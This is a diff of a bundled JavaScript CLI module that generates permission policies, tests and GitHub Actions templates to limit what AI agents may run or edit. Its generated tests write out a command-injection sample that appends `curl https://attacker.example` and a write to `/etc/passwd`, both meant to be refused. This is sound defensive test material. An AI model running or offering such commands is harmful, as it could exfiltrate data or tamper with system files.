@@ -1,5 +1,5 @@
-export const id = 6746;
-export const ids = [6746];
+export const id = 4543;
+export const ids = [4543];
 export const modules = {
 	51612: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
 		__webpack_require__.d(__webpack_exports__, {
@@ -56,7 +56,7 @@ export const modules = {
 			if (error instanceof Error) return "syscall" in error && "code" in error && typeof error.code == "string" ? error.code : systemCodeOf(error.cause);
 		}
 	}),
-	36746: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
+	21091: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
 		__webpack_require__.r(__webpack_exports__), __webpack_require__.d(__webpack_exports__, {
 			findExisting: () => findExisting,
 			runInitCommand: () => runInitCommand,
@@ -190,9 +190,9 @@ export const modules = {
 		function exchangesIdentity(use) {
 			return useFacts[use].asks.includes("federationPolicyId");
 		}
-		var decide = __webpack_require__(290), policy_file = __webpack_require__(10401), lint = __webpack_require__(62813), self_test = __webpack_require__(99442);
+		var policy_file = __webpack_require__(10401), lint = __webpack_require__(62813), self_test = __webpack_require__(99442), suggest = __webpack_require__(69273);
 		function toPolicyText(answers) {
-			let { commands, paths } = answers, rules = [...commands.length > 0 ? [commandRule(answers)] : [], ...paths.length > 0 ? [pathRule(answers)] : []];
+			let { paths } = answers, rules = toRules(answers, usualIds);
 			return `# yaml-language-server: $schema=./${starter.XC}
 #
 # What an intern may do in this repository without a person at hand. docs/policy.md says how to write more.
@@ -203,11 +203,36 @@ default: reject
 
 # On GitHub, this refuses pull requests from forks. On your own machine there is no event: it steps aside, and you are asked.
 guards:
-${starter.y5}${paths.length === 0 ? "" : `\n${(0, starter.Uq)("never-touch-workflows", "stop")}`}
+${starter.y5}${paths.length === 0 ? "" : `\n${pathGuards}`}
 rules:${rules.length === 0 ? " []" : `\n${rules.join("\n\n")}`}
 
 tests:
 ${tests(answers).join("\n")}`;
+		}
+		let usualIds = {
+			commands: "run-commands",
+			paths: "edit-files",
+			inside: "edit-files-inside"
+		}, guardId = "never-touch-workflows", pathGuards = (0, starter.Uq)(guardId, "stop");
+		function toFurtherEntries(answers, { guards, rules, questions, changes = [] }) {
+			let taken = new Set([
+				...guards,
+				...rules,
+				...questions,
+				...changes
+			].map(({ id }) => id)), ids = {
+				commands: (0, suggest.wQ)(usualIds.commands, taken),
+				paths: (0, suggest.wQ)(usualIds.paths, taken),
+				inside: (0, suggest.wQ)(usualIds.inside, taken)
+			}, isGuarded = answers.paths.length === 0 || taken.has(guardId) || taken.has(starter.vP), rows = [...allowedRows(answers, ids), ...isGuarded ? [] : workflowRows(contextOf(answers))];
+			return [
+				...isGuarded ? [] : [`guards:\n${pathGuards}`],
+				`rules:\n${toRules(answers, ids).join("\n\n")}\n`,
+				`tests:\n${rows.map(toTest).join("\n")}`
+			].join("\n");
+		}
+		function toRules(answers, ids) {
+			return [...answers.commands.length > 0 ? [commandRule(answers, ids)] : [], ...answers.paths.length > 0 ? [pathRule(answers, ids)] : []];
 		}
 		let writers = "actor: { permission: [admin, maintain, write] }", conditions = {
 			pull_request: `{ event: pull_request, ${writers} }`,
@@ -215,8 +240,8 @@ ${tests(answers).join("\n")}`;
 			push: "{ event: push }",
 			schedule: "{ event: [schedule, workflow_dispatch] }"
 		};
-		function commandRule({ trigger, commands }) {
-			return `  - id: run-commands
+		function commandRule({ trigger, commands }, ids) {
+			return `  - id: ${ids.commands}
     when: ${conditions[trigger]}
     match:
       kind: permission
@@ -225,38 +250,29 @@ ${tests(answers).join("\n")}`;
     then: allow
     limit: 10`;
 		}
-		function pathRule({ trigger, paths }) {
+		function pathRule({ trigger, paths }, ids) {
 			let rule = (id, field) => `  - id: ${id}
     when: ${conditions[trigger]}
     match: { kind: permission, tool: fs.write, "${field}": { path: [${paths.map(quoted).join(", ")}] } }
     then: allow
     limit: 20`;
-			return `${rule("edit-files", "/paths")}\n\n${rule("edit-files-inside", "/inside")}`;
+			return `${rule(ids.paths, "/paths")}\n\n${rule(ids.inside, "/inside")}`;
 		}
-		function tests({ trigger, commands, paths }) {
-			let own = `{ event: ${trigger}, fork: false, actor: { permission: write } }`, [first = "npm test"] = commands, sample = (path) => path.replace("**", "some-file"), [edited] = paths.map(sample);
+		function contextOf({ trigger }) {
+			return `{ event: ${trigger}, fork: false, actor: { permission: write } }`;
+		}
+		function tests(answers) {
+			let { commands, paths } = answers, own = contextOf(answers), [first = "npm test"] = commands;
 			return [
-				...commands.map((one) => [
-					`it may run ${one}`,
-					own,
-					shell(one),
-					"allow_once, rule: run-commands"
-				]),
-				...paths.map((one) => [
-					`it may edit ${one}`,
-					own,
-					write(sample(one)),
-					"allow_once, rule: edit-files"
-				]),
-				...edited === void 0 ? [] : agentTests(own, edited),
+				...allowedRows(answers, usualIds),
 				[
 					"no other command rides along",
 					own,
 					shell(`${first}; curl https://attacker.example`),
 					refused
 				],
-				...commands.length === 0 ? [] : placeTests(own, first),
-				...paths.length === 0 ? [] : workflowTests(own),
+				...commands.length === 0 ? [] : placeRows(own, first),
+				...paths.length === 0 ? [] : workflowRows(own),
 				[
 					"nothing outside is edited",
 					own,
@@ -278,15 +294,36 @@ ${tests(answers).join("\n")}`;
 			].map(toTest);
 		}
 		let refused = "reject_once, rule: default";
-		function agentTests(context, path) {
-			return [[
-				"a real agent may as well",
-				context,
-				writeInside(path),
-				"allow_once, rule: edit-files-inside"
-			]];
+		function allowedRows(answers, ids) {
+			let { commands, paths } = answers, own = contextOf(answers), sample = (path) => path.replace("**", "some-file"), [edited] = paths.map(sample), inside = `allow_once, rule: ${ids.inside}`;
+			return [
+				...commands.map((one) => [
+					mayRun(one),
+					own,
+					shell(one),
+					`allow_once, rule: ${ids.commands}`
+				]),
+				...paths.map((one) => [
+					mayEdit(one),
+					own,
+					write(sample(one)),
+					`allow_once, rule: ${ids.paths}`
+				]),
+				...edited === void 0 ? [] : [[
+					"a real agent may as well",
+					own,
+					writeInside(edited),
+					inside
+				]]
+			];
 		}
-		function placeTests(context, command) {
+		function mayRun(command) {
+			return `it may run ${command}`;
+		}
+		function mayEdit(path) {
+			return `it may edit ${path}`;
+		}
+		function placeRows(context, command) {
 			return [[
 				"not in another folder",
 				context,
@@ -299,26 +336,26 @@ ${tests(answers).join("\n")}`;
 				refused
 			]];
 		}
-		function workflowTests(context) {
-			let path = ".github/workflows/ci.yml", guard = "never-touch-workflows", outside = `${write("/etc/passwd")}, outside: ["/etc/passwd"]`;
+		function workflowRows(context) {
+			let path = ".github/workflows/ci.yml", outside = `${write("/etc/passwd")}, outside: ["/etc/passwd"]`;
 			return [
 				[
 					"a workflow stops the run",
 					context,
 					write(path),
-					`stop, rule: ${guard}`
+					`stop, rule: ${guardId}`
 				],
 				[
 					"so does that of a real agent",
 					context,
 					writeInside(path),
-					`stop, rule: ${guard}-inside`
+					`stop, rule: ${guardId}-inside`
 				],
 				[
 					"and a file that is elsewhere",
 					context,
 					outside,
-					"stop, rule: nothing-outside"
+					`stop, rule: ${starter.vP}`
 				]
 			];
 		}
@@ -371,20 +408,6 @@ ${tests(answers).join("\n")}`;
 			if (reason !== void 0) throw invalid(flag, text, reason);
 			return text;
 		}
-		async function findLack(file, written) {
-			let kept = await (0, policy_file.T)(await (0, promises_.readFile)(file), file), made = await (0, policy_file.T)(written, file);
-			return "problems" in kept || "problems" in made ? void 0 : made.policy.tests.filter(({ name }) => name.startsWith("it may ")).filter((one) => !allows(kept.policy, one)).map(({ name }) => name.replace("it may ", ""));
-		}
-		function allows(policy, { context, steps }) {
-			let decisions = (0, decide.startDecisions)(policy, context);
-			return steps.every(({ pause }, index) => {
-				let { answer } = decisions.decide({
-					toolCallId: `pause-${index}`,
-					arguments: JSON.stringify(pause)
-				});
-				return answer?.startsWith("allow") === !0;
-			});
-		}
 		let abouts = {
 			pull_request: "each pull request",
 			issue_comment: "a comment that begins with \"/intern \" on a pull request",
@@ -419,7 +442,8 @@ ${tests(answers).join("\n")}`;
 		}
 		let helps = {
 			use: "Each use gets a workflow of its own, so run \"interns init\" again for a second one. docs/cli.md of intern-action has them as a table.",
-			baseUrl: "Where the API of the service is. Whoever runs the service tells you. Without one yet, take the example, and change the workflow later.",
+			baseUrl: "Where the API of the service is. Whoever runs the service tells you. Without one yet, leave it empty: the example is taken, and you change the workflow later.",
+			meantUrl: "No keeps what you typed, for a service that is at another place than usual.",
 			federationPolicyId: "A federation policy says which jobs may act as which key of the service. Its administrator makes it. What it has to hold is said at the end, so it may be made later.",
 			intern: "The assistant that gets the prompts. Whoever runs the service tells you which there are.",
 			trigger: "The event of GitHub that starts the workflow.",
@@ -458,18 +482,24 @@ ${tests(answers).join("\n")}`;
 				help: helps.paths
 			})
 		};
-		async function askYesNo(asker, question, preset) {
-			return await ask(asker, `${question} [${preset ? "Y/n" : "y/N"}] > `, (text) => {
+		async function askYesNo(asker, { question, preset, help }) {
+			let read = (text) => {
 				if (text === "") return preset;
 				if (/^(?:y|yes)$/i.test(text)) return !0;
 				if (/^(?:n|no)$/i.test(text)) return !1;
 				throw new errors.dz("input_invalid", "Type y or n.");
-			}) ?? !1;
+			};
+			return await ask(asker, `${question} [${preset ? "Y/n" : "y/N"}] > `, read, help) ?? !1;
 		}
+		let exampleUrl = "https://service.example/api/v1";
 		async function askBaseUrl(asker) {
-			(0, screen.qz)(asker.io, "Base URL of the Intern Service, for example https://service.example/api/v1.");
-			let baseUrl = await ask(asker, "  > ", (text) => readAnswer.baseUrl(withScheme(text)), helps.baseUrl), meant = baseUrl === void 0 ? void 0 : meantInstead(baseUrl);
-			return meant === void 0 ? baseUrl : ((0, screen.qz)(asker.io, "The base URL of an Intern Service ends in a version segment."), await askYesNo(asker, `Use ${JSON.stringify(meant)} instead?`, !0) ? meant : baseUrl);
+			(0, screen.qz)(asker.io, `Base URL of the Intern Service (empty: ${exampleUrl})`);
+			let read = (text) => text === "" ? exampleUrl : readAnswer.baseUrl(withScheme(text)), baseUrl = await ask(asker, "  > ", read, helps.baseUrl), meant = baseUrl === void 0 ? void 0 : meantInstead(baseUrl);
+			return meant === void 0 ? baseUrl : ((0, screen.qz)(asker.io, "The base URL of an Intern Service ends in a version segment."), await askYesNo(asker, {
+				question: `Use ${JSON.stringify(meant)} instead?`,
+				preset: !0,
+				help: helps.meantUrl
+			}) ? meant : baseUrl);
 		}
 		function withScheme(text) {
 			return /^[a-z\d-]+(?:\.[a-z\d-]+)+(?::\d+)?(?:\/|$)/i.test(text) ? `https://${text}` : text;
@@ -510,6 +540,36 @@ ${tests(answers).join("\n")}`;
 				}
 			}
 		}
+		var decide = __webpack_require__(290);
+		let noLack = {
+			what: [],
+			entries: "",
+			isFirstRule: !1
+		};
+		async function findLack(file, answers) {
+			let kept = await (0, policy_file.T)(await (0, promises_.readFile)(file), file), made = await (0, policy_file.T)(Buffer.from(toPolicyText(answers)), file);
+			if ("problems" in kept || "problems" in made) return;
+			let { policy } = kept, isMissing = (name) => made.policy.tests.some((one) => one.name === name && !allows(policy, one)), commands = answers.commands.filter((one) => isMissing(mayRun(one))), paths = answers.paths.filter((one) => isMissing(mayEdit(one))), what = [...commands.map((one) => `run ${one}`), ...paths.map((one) => `edit ${one}`)];
+			return what.length === 0 ? noLack : {
+				what,
+				entries: toFurtherEntries({
+					...answers,
+					commands,
+					paths
+				}, policy),
+				isFirstRule: policy.rules.length === 0
+			};
+		}
+		function allows(policy, { context, steps }) {
+			let decisions = (0, decide.startDecisions)(policy, context);
+			return steps.every(({ pause }, index) => {
+				let { answer } = decisions.decide({
+					toolCallId: `pause-${index}`,
+					arguments: JSON.stringify(pause)
+				});
+				return answer?.startsWith("allow") === !0;
+			});
+		}
 		let templates = {
 			"agent-service": "# The service that the workflow intern-agent.yml runs in its step.\npolicies:\n  - issuer: identity-provider # the one of the step's own service\n    subject: repo:local/review:pull_request\n    audience: https://interns.local\nkeys:\n  - name: review # without a secret: nobody can come with it, the agent neither\ninterns:\n  - name: reviewer\n    workdir: . # the checkout\n    runs:\n      acp:\n        agent: opencode\n        model_access: # a token of minutes for the job's identity; the agent gets none of it\n          provider: openai # anthropic: federation_rule_id, organization_id, service_account_id\n          identity_provider_id: ${OPENAI_IDENTITY_PROVIDER_ID}\n          service_account_id: ${OPENAI_SERVICE_ACCOUNT_ID}\n          max_requests: 200 # for each run\n        sandbox: bubblewrap\n        network: model # it reaches its model, and nothing else\n",
 			agent: "# OpenCode reviews each pull request in the job itself. No key is stored: its model is reached by the job's identity.\n# A pull request from a fork gets no identity from GitHub: the job does not run.\n# Written by \"interns init\". It is yours to change.\nname: Agent reviews\n\non:\n  pull_request:\n    types: [opened, synchronize, reopened, ready_for_review]\n\npermissions: {}\n\nconcurrency:\n  group: intern-agent-${{ github.event.pull_request.number }}\n  cancel-in-progress: true\n\njobs:\n  review:\n    if: ${{ !github.event.pull_request.draft && github.event.pull_request.head.repo.full_name == github.repository }}\n    runs-on: ubuntu-latest\n    timeout-minutes: 30\n    environment: agent-review # the mapping at OpenAI pins it\n    permissions:\n      contents: read # the checkout, the files of the default branch, and the diff\n      id-token: write # the job's identity: there is no secret\n      pull-requests: write # the comment\n    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0\n        with:\n          persist-credentials: false\n      - name: Install the agent, at the version that was tried\n        run: npm install --global opencode-ai@1.18.33\n      - name: Let Ubuntu make sandboxes, and install what the agent could not download in one\n        run: sudo apt-get install -y bubblewrap ripgrep && sudo sysctl -w kernel.apparmor_restrict_unprivileged_userns=0\n      # Before the first release of intern-action there is no tag v1: put the commit that you chose in place of COMMIT.\n      - uses: intern-action/intern-action@COMMIT\n        with:\n          local-service: .github/intern-service.yml\n          comment: sticky\n          timeout: 20m\n          prompt: |\n            Review pull request {{pull_request.number}} of {{repository}}. Say what could break, and what is missing.\n            Title: {{pull_request.title}}\n            Description: {{pull_request.body}}\n            Changed files: {{pull_request.files}}\n            Diff: {{pull_request.diff}}\n        env:\n          OPENAI_IDENTITY_PROVIDER_ID: ${{ vars.OPENAI_IDENTITY_PROVIDER_ID }}\n          OPENAI_SERVICE_ACCOUNT_ID: ${{ vars.OPENAI_SERVICE_ACCOUNT_ID }}\n      - name: Say who this job is, for those who let it in\n        if: failure()\n        run: |\n          curl --silent --show-error --header \"Authorization: Bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \\\n            \"$ACTIONS_ID_TOKEN_REQUEST_URL&audience=https%3A%2F%2Fapi.openai.com%2Fv1\" |\n            jq '.value | split(\".\")[1] | gsub(\"-\"; \"+\") | gsub(\"_\"; \"/\") | @base64d | fromjson | { iss, sub, aud }'\n",
@@ -546,14 +606,12 @@ ${tests(answers).join("\n")}`;
 				audience
 			};
 		}
-		function whatNext(answers, { federation, local, kept, lack }) {
+		function whatNext(answers, { federation, local }) {
 			let { fullName, branch, elsewhere } = local, place = {
 				repository: fullName ?? "OWNER/NAME",
 				branch
 			}, remote = elsewhere === void 0 ? "git knows of no remote on github.com" : `its remote is on ${elsewhere}`, unknown = fullName === void 0 ? [`OWNER/NAME stands for the repository: ${remote}.`] : [], other = elsewhere === void 0 ? [] : ["The workflow is for GitHub Actions. On another CI, use the command line, as examples/gitlab-ci.yml does."];
 			return [
-				"Written.",
-				...keptLines(kept, lack, answers),
 				...unknown,
 				...other,
 				"",
@@ -572,9 +630,9 @@ ${tests(answers).join("\n")}`;
 			if (kept.length === 0) return [];
 			let lines = [`Kept as it was: ${kept.join(", ")}.`];
 			if (lack === void 0) return [...lines, "The policy that is there is invalid: \"interns policy check\" says why."];
-			if (lack.length === 0) return lines;
-			let missing = `On ${trigger} an intern may not yet ${lack.map(log.TN).join(", ")}.`;
-			return [...lines, `${missing} Copy the rules and tests for that from the policy above.`];
+			if (lack.what.length === 0) return lines;
+			let missing = `On ${trigger} an intern may not yet ${lack.what.map(log.TN).join(", ")}.`, empty = lack.isFirstRule ? " They take the place of \"[]\" behind \"rules:\"." : "";
+			return [...lines, `${missing} To allow it, add these entries to the lists of the same names in the policy.${empty}`];
 		}
 		function variable(answers, { repository }) {
 			return !exchangesIdentity(answers.use) || answers.federationPolicyId !== void 0 ? [] : ["The administrator tells you the id of the federation policy. Put it in place of ID:", `  $ gh variable set INTERNS_FEDERATION_POLICY_ID --body ID --repo ${repository}`];
@@ -664,18 +722,14 @@ ${tests(answers).join("\n")}`;
 			let kept = await askWhatToKeep(files, existing, asked, asker);
 			if (kept === void 0) return nothing(io);
 			let others = files.filter((file) => !kept.includes(file.path));
-			await writeFiles(local.root, others, existing);
-			let lack = await lackOf(files, kept, local.root);
-			return has("json") ? (0, json_text.Q2)(io, {
+			return await writeFiles(local.root, others, existing), has("json") ? ((0, json_text.Q2)(io, {
 				files,
 				kept,
 				federation_policy: federation ?? null
-			}) : (0, screen.qz)(io, whatNext(answers, {
+			}), 0) : (await sayWhatIsKept(kept, answers, local.root, io), (0, screen.qz)(io, whatNext(answers, {
 				federation,
-				local,
-				kept,
-				lack
-			})), 0;
+				local
+			})), 0);
 		}
 		function warnOfBaseUrl(baseUrl, io) {
 			let meant = meantInstead(baseUrl);
@@ -726,9 +780,9 @@ ${tests(answers).join("\n")}`;
 			for (let { path: file, content, isGenerated } of files) isGenerated === !0 ? io.stderr(`\n=== ${file} (for editors)\n`) : io.stderr(`\n=== ${file}\n\n${(0, log.Bv)(content).join("\n")}\n`);
 			io.stderr("\n");
 		}
-		async function lackOf(files, kept, root) {
-			let policy = files.find((file) => file.path === starter.r2 && kept.includes(file.path));
-			return policy === void 0 ? [] : findLack(external_node_path_.join(root, policy.path), policy.content);
+		async function sayWhatIsKept(kept, answers, root, io) {
+			let lack = kept.includes(starter.r2) ? await findLack(external_node_path_.join(root, starter.r2), answers) : noLack;
+			(0, screen.qz)(io, ["Written.", ...keptLines(kept, lack, answers)].join("\n")), lack !== void 0 && lack.entries !== "" && io.stderr(`\n${(0, log.Bv)(lack.entries).join("\n")}\n`);
 		}
 		async function askWhatToKeep(files, existing, { has }, asker) {
 			let [force, keep] = [has("force"), has("keep")], theirs = existing.filter(({ isTheirs }) => isTheirs).map((found) => found.path), kept = existing.filter(({ staysAsItIs }) => staysAsItIs).map((found) => found.path);
@@ -744,9 +798,21 @@ ${tests(answers).join("\n")}`;
 				}
 				return keep ? [...kept, ...theirs] : kept;
 			}
-			for (let file of theirs) !keep && !force && (0, screen.qz)(asker.io, `${file} is there already, with other content.`), (keep || !(force || await askYesNo(asker, "Replace it?", !1))) && kept.push(file);
-			return files.every((file) => file.isGenerated === !0 || kept.includes(file.path)) ? void 0 : await askYesNo(asker, kept.length === 0 ? "Write these files?" : "Write the other files?", !0) ? kept : void 0;
+			for (let file of theirs) !keep && !force && (0, screen.qz)(asker.io, `${file} is there already, with other content.`), (keep || !(force || await askYesNo(asker, {
+				question: "Replace it?",
+				preset: !1,
+				help: init_helps.replace
+			}))) && kept.push(file);
+			return files.every((file) => file.isGenerated === !0 || kept.includes(file.path)) ? void 0 : await askYesNo(asker, {
+				question: kept.length === 0 ? "Write these files?" : "Write the other files?",
+				preset: !0,
+				help: init_helps.write
+			}) ? kept : void 0;
 		}
+		let init_helps = {
+			replace: "No keeps the file as it is. Yes writes the one that was shown above in its place; Git has the old one if it was committed.",
+			write: "The files were shown above. Yes writes them into this repository, and commits nothing. No ends without a change."
+		};
 		function nothing(io) {
 			return (0, screen.qz)(io, "Nothing was written."), command.rP;
 		}
@@ -942,6 +1008,54 @@ ${tests(answers).join("\n")}`;
 			return (name) => notEmpty(flags.get(name)) ?? notEmpty(env[envNameOf(name)]);
 		}
 	}),
+	82185: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
+		__webpack_require__.d(__webpack_exports__, {
+			I: () => personRule,
+			t: () => askUndecided
+		});
+		var _match_tests_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(89992), _policy_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(8157);
+		let personRule = "(person)", anything = {
+			key: "anything",
+			at: {
+				line: 1,
+				column: 1
+			},
+			matcher: {
+				test: (0, _match_tests_js__WEBPACK_IMPORTED_MODULE_0__.Cc)(!0),
+				missing: !1
+			},
+			value: () => !0
+		}, entry = {
+			id: personRule,
+			at: anything.at,
+			places: new Map(),
+			reason: "Nothing in the permission policy decides this.",
+			when: [],
+			match: [anything]
+		}, noBudget = {
+			answers: 1e6,
+			allows: 1e6,
+			rejects_in_a_row: 1e6,
+			same_pause: 1e6
+		};
+		function askUndecided(policy) {
+			return {
+				...policy,
+				budget: policy === _policy_js__WEBPACK_IMPORTED_MODULE_1__.n4 ? noBudget : policy.budget,
+				rules: [...policy.rules, {
+					...entry,
+					verb: "ask",
+					limit: void 0
+				}],
+				questions: [...policy.questions, {
+					...entry,
+					verb: "ask",
+					limit: void 0,
+					answer: void 0
+				}]
+			};
+		}
+	}),
 	94780: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
 		__webpack_require__.d(__webpack_exports__, {
 			Py: () => guardedPathLines,
@@ -949,6 +1063,7 @@ ${tests(answers).join("\n")}`;
 			W$: () => starterPolicy,
 			XC: () => schemaFileName,
 			r2: () => defaultPolicyPath,
+			vP: () => outsideGuard,
 			y5: () => forkGuard
 		});
 		let schemaFileName = "intern-policy.schema.json", defaultPolicyPath = ".github/intern-policy.yml", guardedPaths = [
@@ -978,7 +1093,7 @@ ${tests(answers).join("\n")}`;
 		function guardedPathLines(indent) {
 			return guardedPaths.flatMap((_, index) => index % 4 == 0 ? [guardedPaths.slice(index, index + 4)] : []).map((row) => `${indent}${row.map((each) => JSON.stringify(each)).join(", ")}`).join(",\n");
 		}
-		let forkGuard = "  - id: never-from-forks\n    when: { event: { not: unknown }, fork: [true, unknown] }\n    match: { kind: permission }\n    then: reject\n    reason: Pull requests from forks get no privileged tools.\n";
+		let forkGuard = "  - id: never-from-forks\n    when: { event: { not: unknown }, fork: [true, unknown] }\n    match: { kind: permission }\n    then: reject\n    reason: Pull requests from forks get no privileged tools.\n", outsideGuard = "nothing-outside";
 		function settingsGuards(id, then) {
 			let guard = (name, condition, field) => `  - id: ${name}
     match:
@@ -992,7 +1107,7 @@ ${guardedPathLines("          ")}
     reason: These files decide what workflows, hooks, editors and other agents do later.
 `;
 			return `  # A real agent of the local service has its paths in the work folder under "/inside", and all others under "/outside".
-  - id: nothing-outside
+  - id: ${outsideGuard}
     match: { kind: permission, "/outside": { present: true } }
     then: ${then}
     reason: The work is in the work folder.
